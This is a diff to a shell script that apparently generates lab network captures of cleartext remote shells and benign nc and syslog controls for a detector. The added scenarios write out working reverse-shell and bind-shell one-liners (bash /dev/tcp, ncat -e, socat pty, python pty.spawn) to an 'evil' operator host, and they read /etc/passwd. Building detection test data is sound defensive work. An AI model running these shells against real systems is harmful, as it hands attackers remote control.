@@ -2787,6 +2787,60 @@ m6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(sock
 time.sleep(2)'
 }
 
+# Session 36 (det36b): cleartext command shells (remote_shell) and their
+# benign controls. The operator on .66 types id, uname -a and cat
+# /etc/passwd into a listening ncat; the NAS's shell connects out to it
+# (reverse) or listens itself (bind).
+operate() { # operate PORT: the operator's listener, commands fed with pauses
+	(sleep 1.5; echo id; sleep 0.7; echo 'uname -a'; sleep 0.7; echo 'cat /etc/passwd'; sleep 0.7; echo exit; sleep 1) |
+		inns evil timeout 10 ncat -l "$1" >"$tmp/operator.$1" 2>&1 &
+	op=$!
+	sleep 0.5
+}
+scn_revshell_bash_devtcp() { operate 4444; inns nas timeout 8 bash -c "bash -i >& /dev/tcp/$NET.66/4444 0>&1" || true; wait $op || true; }
+scn_revshell_ncat_e() { operate 4445; inns nas timeout 8 ncat "$NET.66" 4445 -e /bin/sh || true; wait $op || true; }
+scn_revshell_socat_pty() { operate 4446; inns nas timeout 8 socat tcp:"$NET.66":4446 exec:'sh -i',pty,stderr,setsid,sigint,sane || true; wait $op || true; }
+scn_revshell_python_pty() {
+	operate 443
+	inns nas timeout 8 "$py" -c 'import socket, os, pty
+s = socket.socket(); s.connect(("'$NET.66'", 443))
+[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
+pty.spawn("/bin/sh")' || true
+	wait $op || true
+}
+scn_bindshell_ncat() {
+	inns nas timeout 8 ncat -l 4448 -e /bin/sh & local l=$!
+	sleep 0.5
+	(sleep 0.5; echo id; sleep 0.7; echo 'uname -a'; sleep 0.7; echo 'cat /etc/passwd'; sleep 0.7; echo exit; sleep 1) |
+		inns evil timeout 8 ncat "$nas" 4448 || true
+	wait $l || true
+}
+# An engineer on busybox telnetd (the device's own shell after telnet's
+# negotiation, the prompt from the server) on 23 and on 2323: telnet's
+# insecure_protocol, no remote_shell.
+scn_telnet_busybox_shell() {
+	inns nas timeout 9 busybox telnetd -F -p 23 -l /bin/sh & local t1=$!
+	inns nas timeout 9 busybox telnetd -F -p 2323 -l /bin/sh & local t2=$!
+	sleep 0.5
+	for port in 23 2323; do
+		(sleep 1; echo id; sleep 0.5; echo 'uname -a'; sleep 0.5; echo 'cat /etc/passwd'; sleep 0.5; echo exit; sleep 0.5) |
+			inns pc timeout 5 telnet "$nas" "$port" || true
+	done
+	wait $t1 $t2 || true
+}
+# Benign: two engineers chatting through nc, and syslog lines over TCP
+# carrying "uid=0" text.
+scn_benign_nc_chat_syslog() {
+	(sleep 0.5; echo 'hi, did the backup job finish?'; sleep 0.7; echo 'ok, thanks $ '; sleep 0.5) | inns pc2 timeout 4 nc -l 5555 & local c=$!
+	sleep 0.3
+	(sleep 1; echo 'yes, at 02:14, 3.2 GB'; sleep 0.5; echo 'uid=0 check done'; sleep 1) | inns pc timeout 3 nc -N "$NET.11" 5555 || true
+	inns nas timeout 3 nc -l 6514 >/dev/null & local s=$!
+	sleep 0.3
+	inns pc logger -T -n "$nas" -P 6514 'pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)' || true
+	inns pc logger -T -n "$nas" -P 6514 'uid=0(root) gid=0(root) groups=0(root)' || true
+	wait $c $s || true
+}
+
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
